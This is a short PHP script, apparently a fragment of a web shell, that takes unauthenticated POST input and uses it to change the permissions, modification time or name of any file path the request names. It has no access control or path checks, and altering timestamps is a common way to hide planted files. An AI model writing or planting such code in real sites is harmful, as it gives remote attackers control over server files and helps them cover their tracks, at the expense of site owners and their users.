<?php
if (isset($_POST['ch'])) { chmod($_POST['f'], octdec($_POST['ch'])); }
if (isset($_POST['t'])) { touch($_POST['f'], strtotime($_POST['t'])); }
if (isset($_POST['n'])) { rename($_POST['f'], $_POST['n']); }
